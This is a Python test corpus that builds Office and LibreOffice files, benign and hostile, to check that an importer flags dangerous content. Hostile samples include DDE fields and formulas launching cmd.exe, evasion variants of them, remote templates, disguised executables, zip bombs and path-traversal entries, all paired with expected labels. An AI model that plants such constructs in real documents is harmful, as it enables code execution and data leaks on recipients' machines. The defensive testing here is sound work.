"""Documents of Word, Excel, PowerPoint and LibreOffice, of today and of old."""

import io
import random
import zipfile

from tests.actions.importing.builders import docx, odf, odf_row, odf_table, word_paragraph, xlsx, zipped
from tests.documents.corpus import pdfs
from tests.documents.corpus.case import Case
from tests.documents.corpus.old_office import old_excel, old_word, ole, packed

RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
SETTINGS = "word/_rels/settings.xml.rels"
DOCUMENT = "word/_rels/document.xml.rels"
XLINK = 'xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0"'


def relation(what: str, target: str, mode: str = "External") -> str:
    """A part that holds one relation."""
    outside = f' TargetMode="{mode}"' if mode else ""
    return (
        f'<Relationships xmlns="{RELATIONS}">'
        f'<Relationship Id="r1" Type="{OFFICE}/{what}" Target="{target}"{outside}/></Relationships>'
    )


def word(body: str = "", **parts) -> bytes:
    """A .docx of one paragraph, then ``body``."""
    return docx(word_paragraph("Bonjour") + body, **parts)


def field(*pieces: str) -> str:
    """A field of Word, its instruction in pieces."""
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    return f"<w:p>{mark.format('begin')}{runs}{mark.format('separate')}{mark.format('end')}</w:p>"


def book(*parts: tuple[str, str | bytes], formula: str = "") -> bytes:
    """An .xlsx with more parts, or a formula as Excel writes it."""
    data = xlsx(lambda made: made.active.append(["a", 1]))
    stream = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as source,
        zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for entry in source.infolist():
            content = source.read(entry)
            if formula and entry.filename == "xl/worksheets/sheet1.xml":
                content = content.replace(b"<v>1</v>", f"<f>{formula}</f><v>1</v>".encode())
            target.writestr(entry.filename, content)
        for name, content in parts:
            target.writestr(name, content)
    return stream.getvalue()


def slides(**parts) -> bytes:
    """A .pptx reduced to its main part."""
    return zipped({"[Content_Types].xml": "<Types/>", "ppt/presentation.xml": "<p:presentation/>", **parts})


def text(content: str = "", **parts) -> bytes:
    """An .odt."""
    return odf("odt", f"<text:p>Bonjour</text:p>{content}", **parts)


def picture_at(address: str) -> str:
    """A picture of LibreOffice, with its address."""
    return f'<draw:frame {XLINK}><draw:image xlink:href="{address}" xlink:actuate="onLoad"/></draw:frame>'


def locked_zip() -> bytes:
    """An entry that asks for a password."""
    data = bytearray(word())
    data[data.index(b"PK\x01\x02") + 8] |= 1
    return bytes(data)


def overlapping() -> bytes:
    """Nine entries that are the same bytes."""
    data = bytearray(zipped({"a": random.Random(1).randbytes(5_000), "b": b""}))
    end = data.rindex(b"PK\x05\x06")
    start = int.from_bytes(data[end + 16 : end + 20], "little")
    entry = data[start : start + 47]
    stream = bytes(data[:start]) + b"".join(bytes(entry[:46]) + bytes([97 + i]) for i in range(9))
    tail = bytearray(data[end:])
    tail[8:10] = tail[10:12] = (9).to_bytes(2, "little")
    tail[12:16] = (9 * 47).to_bytes(4, "little")
    return stream + bytes(tail)


def twice() -> bytes:
    """Two entries under one name: each reader takes another."""
    stream = io.BytesIO(word())
    with zipfile.ZipFile(stream, "a") as archive:
        archive.writestr("Word/document.xml", "<other/>")
    return stream.getvalue()


def lying() -> bytes:
    """An entry that says it is small and is not."""
    data = bytearray(word(**{"word/media/a.xml": b"<a>" + b" " * 90_000 + b"</a>"}))
    place = data.index(b"word/media/a.xml", data.index(b"PK\x01\x02")) - 46
    data[place + 24 : place + 28] = (40).to_bytes(4, "little")
    return bytes(data)


def nested(times: int) -> bytes:
    """A document in a document, so many times."""
    inner = word()
    for _ in range(times):
        inner = word(**{"word/embeddings/a.docx": inner})
    return inner


def pdf_first() -> bytes:
    """A package that a reader of PDF opens too."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        archive.writestr("a", b"%PDF-1.7\n")
        archive.writestr("word/document.xml", "<a/>")
    return stream.getvalue()


W, X, P, ODF, OLD = "Word", "Excel", "PowerPoint", "LibreOffice", "old Office"
WORKBOOK = "word/embeddings/Classeur.xlsx"
OBJECT = "word/embeddings/oleObject1.bin"
TYPES = "[Content_Types].xml"
LINK = relation("hyperlink", "https://www.legifrance.gouv.fr/")

CASES = (
    Case(W, "a plain text", "plan.docx", word),
    Case(W, "a link to a site", "plan.docx", lambda: word(**{DOCUMENT: LINK})),
    Case(W, "the words « macro », « script » and « DDE » in a text", "plan.docx",
         lambda: word(word_paragraph("La macro, le script et la liaison DDE (vbaProject) sont proscrits."))),
    Case(W, "a template on the author's own disk", "plan.docx", lambda: word(
        **{SETTINGS: relation("attachedTemplate", "file:///C:\\Users\\agent\\Normal.dotm")})),
    Case(W, "a template on a web site", "plan.docx", lambda: word(
        **{SETTINGS: relation("attachedTemplate", "https://exemple.invalid/modele.dotm")}), "modèle"),
    Case(W, "a template on another computer of the network", "plan.docx", lambda: word(
        **{SETTINGS: relation("attachedTemplate", "\\\\serveur\\modeles\\a.dotm")}), "modèle"),
    Case(W, "a template on another computer, as a file address", "plan.docx", lambda: word(
        **{SETTINGS: relation("attachedTemplate", "file://serveur/modeles/a.dotm")}), "modèle"),
    Case(W, "a picture loaded from a web site", "plan.docx", lambda: word(
        **{DOCUMENT: relation("image", "http://exemple.invalid/a.png")}), "ailleurs"),
    Case(W, "a picture loaded from elsewhere, under a relation that hides it", "plan.docx", lambda: word(
        **{DOCUMENT: relation("image", "http:&#47;&#47;exemple.invalid/a.png", mode="")}), "ailleurs"),
    Case(W, "a linked object", "plan.docx", lambda: word(
        **{DOCUMENT: relation("oleObject", "mhtml:http://exemple.invalid/a.html!x-usc:b")}), "ailleurs"),
    Case(W, "a linked frame", "plan.docx", lambda: word(
        **{DOCUMENT: relation("frame", "http://exemple.invalid/a.html")}), "ailleurs"),
    Case(W, "macros", "plan.docx", lambda: word(**{"word/vbaProject.bin": b"x"}), "macros"),
    Case(W, "macros under another name", "plan.docx", lambda: word(
        **{DOCUMENT: relation("vbaProject", "donnees.bin", mode="").replace("officeDocument", "x")}), "macros"),
    Case(W, "macros in a part that says nothing", "plan.docx", lambda: word(
        **{OBJECT: ole({"VBA/ThisDocument": b"x", "PROJECT": b"y"})}), "macros"),
    Case(W, "a document with macros renamed", "plan.docx", lambda: word(
        **{TYPES: "<Types><Override ContentType='application/vnd.ms-word.document.macroEnabled.main+xml'/></Types>"}),
        "macros"),
    Case(W, "the format that holds macros", "plan.docm", word, "macros"),
    Case(W, "a page number", "plan.docx", lambda: word(field("PAGE", " \\* MERGEFORMAT"))),
    Case(W, "a link as a field", "plan.docx", lambda: word(field(' HYPERLINK "https://exemple.fr/"'))),
    Case(W, "a field that starts a program", "plan.docx", lambda: word(
        field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"')), "DDE"),
    Case(W, "the same in pieces", "plan.docx", lambda: word(field("DD", "EAU", 'TO cmd "/k calc"')), "DDE"),
    Case(W, "the same in a simple field, its name written as characters", "plan.docx", lambda: word(
        '<w:p><w:fldSimple w:instr="D&#68;E cmd &quot;/k&quot;"/></w:p>'), "DDE"),
    Case(W, "the same with its name written as numbers", "plan.docx", lambda: word(
        field("QUOTE 68 68 69 65 85 84 79")), "DDE"),
    Case(W, "a picture that a field loads", "plan.docx", lambda: word(
        field(' INCLUDEPICTURE "https://exemple.invalid/a.png" \\d')), "ailleurs"),
    Case(W, "a text that a field loads from the network", "plan.docx", lambda: word(
        field(' INCLUDETEXT "\\\\\\\\serveur\\\\a.docx"')), "ailleurs"),
    Case(W, "an ActiveX control", "plan.docx", lambda: word(
        **{"word/activeX/activeX1.xml": "<ax:ocx xmlns:ax='urn:a'/>"}), "ActiveX"),
    Case(W, "an ActiveX control named by its relation alone", "plan.docx", lambda: word(
        **{DOCUMENT: relation("control", "a.xml", mode="")}), "ActiveX"),
    Case(W, "an embedded workbook", "plan.docx", lambda: word(**{WORKBOOK: book()})),
    Case(W, "an embedded workbook with macros", "plan.docx", lambda: word(
        **{WORKBOOK: book(("xl/vbaProject.bin", b"x"))}), "macros"),
    Case(W, "an embedded workbook of an old Excel", "plan.docx", lambda: word(
        **{"word/embeddings/a.xls": old_excel()})),
    Case(W, "an embedded workbook of an old Excel, with a sheet of macros", "plan.docx", lambda: word(
        **{"word/embeddings/a.xls": old_excel((0x85, bytes(5) + b"\x01" + b"\x01\x00A"))}), "macros"),
    Case(W, "an object that holds a text", "plan.docx", lambda: word(
        **{OBJECT: packed("note.txt", b"Bonjour")})),
    Case(W, "an object that holds a program", "plan.docx", lambda: word(
        **{OBJECT: packed("facture.exe", b"MZ\x90\x00" + bytes(60))}), "programme"),
    Case(W, "an object that holds a program under a document's name", "plan.docx", lambda: word(
        **{OBJECT: packed("facture.pdf", b"MZ\x90\x00" + bytes(60))}), "programme"),
    Case(W, "an object that holds a script", "plan.docx", lambda: word(
        **{OBJECT: packed("facture.js", b"var a = 1;")}), "programme"),
    Case(W, "an object that holds a PDF with a script", "plan.docx", lambda: word(
        **{OBJECT: packed("note.pdf", pdfs.script())}), "script"),
    Case(W, "a program as a part", "plan.docx", lambda: word(
        **{"word/embeddings/a.bin": b"MZ\x90\x00"}), "programme"),
    Case(W, "a page with a script that the text takes in", "plan.docx", lambda: word(
        **{"word/afchunk.html": "<html><script>a()</script></html>"}), "script"),
    Case(W, "a password", "plan.docx", lambda: ole({"EncryptedPackage": b"x", "EncryptionInfo": b"y"}),
         "mot de passe"),
    Case(W, "an entry under a password", "plan.docx", locked_zip, "mot de passe"),
    Case(W, "XML entities", "plan.docx", lambda: word(
        **{"word/styles.xml": '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}), "entités"),
    Case(W, "XML entities in UTF-16", "plan.docx", lambda: word(
        **{"word/styles.xml": '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'.encode("utf-16")}), "entités"),
    Case(W, "XML in an encoding that hides it", "plan.docx", lambda: word(
        **{"word/styles.xml": b'<?xml version="1.0" encoding="UTF-7"?><a/>'}), "endommagé"),
    Case(W, "a part that unpacks to 20 MB of nothing", "plan.docx", lambda: word(
        **{"word/media/a.xml": b" " * 20_000_000}), "démesuré"),
    Case(W, "the same inside an embedded document", "plan.docx", lambda: word(
        **{"word/embeddings/a.docx": word(**{"a.xml": b" " * 20_000_000})}), "démesuré"),
    Case(W, "five thousand and one parts", "plan.docx", lambda: zipped(
        {f"{rank}.txt": "" for rank in range(5_001)}), "démesuré"),
    Case(W, "parts that are all the same bytes", "plan.docx", overlapping, "démesuré"),
    Case(W, "a part longer than it says", "plan.docx", lying, "endommagé"),
    Case(W, "a document in a document in a document", "plan.docx", lambda: nested(2)),
    Case(W, "one level deeper", "plan.docx", lambda: nested(3), "archives"),
    Case(W, "an archive inside", "plan.docx", lambda: word(**{"word/embeddings/a.bin": zipped({"a": "b"})}),
         "archives"),
    Case(W, "a part that leaves its folder", "plan.docx", lambda: word(**{"../../a.xml": "<a/>"}), "noms"),
    Case(W, "two parts under one name", "plan.docx", twice, "noms"),
    Case(W, "cut in the middle", "plan.docx", lambda: word()[:-60], "endommagé"),
    Case(W, "also a PDF", "plan.docx", pdf_first, "deux natures"),
    Case(W, "the XML of Word 2003 as a text", "note.txt", lambda: (
        b"<?xml version='1.0'?><?mso-application progid='Word.Document'?><w:wordDocument/>"), "annonce"),
    Case(X, "a plain workbook", "suivi.xlsx", book),
    Case(X, "formulas", "suivi.xlsx", lambda: book(formula="SUM(A1:B2)&amp;&quot; | &quot;&amp;A1")),
    Case(X, "a formula that follows a link", "suivi.xlsx",
         lambda: book(formula='HYPERLINK("https://exemple.fr","a")')),
    Case(X, "a formula that starts a program", "suivi.xlsx", lambda: book(formula="cmd|'/c calc'!A0"), "DDE"),
    Case(X, "a formula that calls a web site", "suivi.xlsx",
         lambda: book(formula='_xlfn.WEBSERVICE("https://exemple.invalid/"&amp;A1)'), "ailleurs"),
    Case(X, "a DDE link", "suivi.xlsx", lambda: book(
        ("xl/externalLinks/externalLink1.xml", "<x:externalLink><x:ddeLink ddeService='cmd'/></x:externalLink>")),
        "DDE"),
    Case(X, "a link to a workbook of the same disk", "suivi.xlsx", lambda: book(
        ("xl/externalLinks/_rels/externalLink1.xml.rels", relation("externalLinkPath", "file:///D:\\b.xlsx")))),
    Case(X, "a link to a workbook of a web site", "suivi.xlsx", lambda: book(
        ("xl/externalLinks/_rels/externalLink1.xml.rels", relation("externalLinkPath", "https://exemple.invalid/b.xlsx"))),
        "ailleurs"),
    Case(X, "data refreshed at opening", "suivi.xlsx", lambda: book(
        ("xl/connections.xml", "<connections><connection id='1' refreshOnLoad='1'/></connections>")), "ailleurs"),
    Case(X, "a sheet of macros of Excel 4", "suivi.xlsx", lambda: book(
        ("xl/_rels/autre.xml.rels", relation("xlMacrosheet", "macrosheets/a.xml", mode=""))), "macros"),
    Case(X, "the binary format", "suivi.xlsb", book, "macros"),
    Case(P, "plain slides", "seance.pptx", slides),
    Case(P, "a button that runs a program", "seance.pptx", lambda: slides(
        **{"ppt/slides/slide1.xml": "<p:sld><a:hlinkClick action='ppaction://program'/></p:sld>"}), "programme"),
    Case(P, "a button that goes to a slide", "seance.pptx", lambda: slides(
        **{"ppt/slides/slide1.xml": "<p:sld><a:hlinkClick action='ppaction://hlinksldjump'/></p:sld>"})),
    Case(P, "a film on a web site", "seance.pptx", lambda: slides(
        **{"ppt/slides/_rels/slide1.xml.rels": relation("video", "https://exemple.invalid/film")}), "ailleurs"),
    Case(ODF, "a plain text", "note.odt", text),
    Case(ODF, "a plain sheet, with its formulas", "suivi.ods", lambda: odf("ods", odf_table(
        odf_row('<table:table-cell table:formula="of:=SUM([.A1:.B2])"/>', "b")))),
    Case(ODF, "a link", "note.odt", lambda: text(f'<text:a {XLINK} xlink:href="https://exemple.fr">x</text:a>')),
    Case(ODF, "an empty library of macros, written by default", "suivi.ods", lambda: odf(
        "ods", "", **{"Basic/Standard/script-lb.xml": "<a/>"})),
    Case(ODF, "a macro in Basic", "note.odt", lambda: text(**{"Basic/Standard/Module1.xml": "<a/>"}), "macros"),
    Case(ODF, "a macro in Python", "note.odt", lambda: text(**{"Scripts/python/a.py": "a"}), "macros"),
    Case(ODF, "a macro bound to the opening", "note.odt", lambda: text(
        f'<office:event-listeners {XLINK} xmlns:s="urn:oasis:names:tc:opendocument:xmlns:script:1.0">'
        '<s:event-listener s:event-name="dom:load" xlink:href="vnd.sun.star.script:a"/></office:event-listeners>'),
        "macros"),
    Case(ODF, "a picture of the document", "note.odt", lambda: text(picture_at("Pictures/a.png"))),
    Case(ODF, "a picture loaded from a web site", "note.odt", lambda: text(
        picture_at("https://exemple.invalid/a.png")), "ailleurs"),
    Case(ODF, "a template on the author's own disk", "note.odt", lambda: text(
        **{"meta.xml": f'<meta:template {XLINK} xlink:href="file:///C:/modele.ott"/>'})),
    Case(ODF, "a template on another computer", "note.odt", lambda: text(
        **{"meta.xml": f'<meta:template {XLINK} xlink:href="//serveur/modele.ott"/>'}), "modèle"),
    Case(ODF, "a section of another document", "note.odt", lambda: text(
        f'<text:section {XLINK}><text:section-source xlink:href="http://exemple.invalid/a.odt"/></text:section>'),
        "ailleurs"),
    Case(ODF, "a DDE link", "suivi.ods", lambda: odf("ods", '<table:dde-link><office:dde-source/></table:dde-link>'),
         "DDE"),
    Case(ODF, "a formula that starts a program", "suivi.ods", lambda: odf("ods", odf_table(odf_row(
        "<table:table-cell table:formula=\"msoxl:=cmd|'/c calc'!A0\"/>"))), "DDE"),
    Case(ODF, "a password", "note.odt", lambda: text(
        **{"META-INF/manifest.xml": "<manifest><encryption-data/></manifest>"}), "mot de passe"),
    Case(ODF, "an embedded object that is a program", "note.odt", lambda: text(
        **{"Object 1": packed("a.exe", b"MZ\x00")}), "programme"),
    Case(ODF, "the flat format as a text", "note.txt", lambda: (
        b"<?xml version='1.0'?><office:document xmlns:office='urn:x'><office:scripts/></office:document>"), "annonce"),
    Case(OLD, "a text without macros", "note.doc", old_word, ".docx"),
    Case(OLD, "a text with macros", "note.doc", lambda: old_word(**{"Macros/VBA/a": b"x"}), "macros"),
    Case(OLD, "a text under a password", "note.doc", lambda: old_word(0x100), "mot de passe"),
    Case(OLD, "a workbook without macros", "suivi.xls", old_excel, ".xlsx"),
    Case(OLD, "a workbook with macros", "suivi.xls", lambda: ole({"_VBA_PROJECT_CUR/VBA/a": b"x", "Workbook": b""}),
         "macros"),
    Case(OLD, "a workbook under a password", "suivi.xls", lambda: old_excel((0x2F, bytes(6))), "mot de passe"),
)  # fmt: skip
